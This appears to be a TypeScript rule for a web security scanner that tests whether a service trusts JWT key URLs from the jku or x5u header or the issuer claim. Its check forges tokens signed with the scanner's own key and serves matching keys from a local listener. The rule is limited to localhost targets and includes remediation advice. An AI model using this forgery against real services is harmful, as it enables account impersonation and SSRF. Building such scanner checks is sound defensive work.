import { createPrivateKey, createPublicKey, X509Certificate } from 'node:crypto';
import { openCallbackListener } from '../../http/callback-listener.ts';
import type { Jwt } from '../../material/jwt.ts';
import { encodeJwt } from '../../material/jwt.ts';
import type { ForgedToken } from '../forgery.ts';
import { ALIKE_FOR_TOKENS, onTrial, showForged } from '../forgery.ts';
import { ownCertificate } from '../own-certificate.ts';
import { defineRule } from '../rule.ts';

const onThisMachine = (hostname: string) => /^(localhost|127(\.\d+){3}|\[::1\])$/i.test(hostname);

export const jwtKeyAddressTrusted = defineRule({
  id: 'jwt-key-address-trusted',
  title: 'JWT key URL (jku, x5u or issuer) trusted',
  aliases: ['jku header injection', 'x5u', 'JWKS spoofing', 'SSRF'],
  severity: 'critical',
  cwe: [347, 918],
  cvss: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:N/SC:L/SI:N/SA:N',
  description:
    'Anyone can sign tokens for any user with a key of their own, and can make the service send requests (SSRF). The service downloads the verification key from the URL in the jku or x5u header or the issuer of the token.',
  remediation:
    'Download keys from configured URLs only: compare iss with a list of trusted issuers first, and ignore jku and x5u.',
  // Makes the service send requests to the scanner's own listener.
  needs: ['identity', 'active'],
  alike: ALIKE_FOR_TOKENS,
  ...onTrial(
    async (trial, context) => {
      const { cert, key } = ownCertificate();
      const own = { certificate: cert, key };
      let kid = 'mb';
      const listener = await openCallbackListener((url) =>
        /\.pem$/.test(url) ? cert : keySet(cert, kid, url),
      );
      try {
        return await showForged(trial, context, (jwt) => {
          kid = typeof jwt.header.kid === 'string' ? jwt.header.kid : 'mb';
          return forgedWith(jwt, kid, own.key, listener.urlFor('mb-keys'));
        });
      } finally {
        await listener.close();
      }
    },
    (_jwt, { target }) =>
      onThisMachine(target.hostname)
        ? undefined
        : 'the target cannot reach the scanner’s callback listener: only targets on this machine can',
  ),
});

function forgedWith({ header, payload }: Jwt, kid: string, key: string, base: string): ForgedToken[] {
  const { x5c: _chain, x5t: _print, jwk: _key, ...rest } = header;
  const plain = { ...rest, alg: 'RS256', kid };
  const signing = { kind: 'rsa', key: createPrivateKey(key) } as const;
  const what = (place: string) => `signed with the scanner’s key, which the ${place} points to,`;
  return [
    {
      token: encodeJwt({ ...plain, jku: `${base}/.well-known/jwks.json` }, payload, signing),
      what: what('jku header'),
    },
    {
      token: encodeJwt({ ...plain, x5u: `${base}/key.pem` }, payload, signing),
      what: what('x5u header'),
    },
    { token: encodeJwt(plain, { ...payload, iss: base }, signing), what: what('issuer') },
  ];
}

/** Key set and metadata of an issuer (RFC 8414) in one, so that one address serves whoever asks for either. */
function keySet(certificate: string, kid: string, url: string): string {
  const jwk = createPublicKey(
    new X509Certificate(certificate).publicKey.export({ type: 'spki', format: 'pem' }),
  );
  const issuer = url.replace(/\/\.well-known\/.*$/s, '');
  return JSON.stringify({
    issuer,
    jwks_uri: `${issuer}/.well-known/jwks.json`,
    keys: [{ ...jwk.export({ format: 'jwk' }), kid, alg: 'RS256', use: 'sig' }],
  });
}
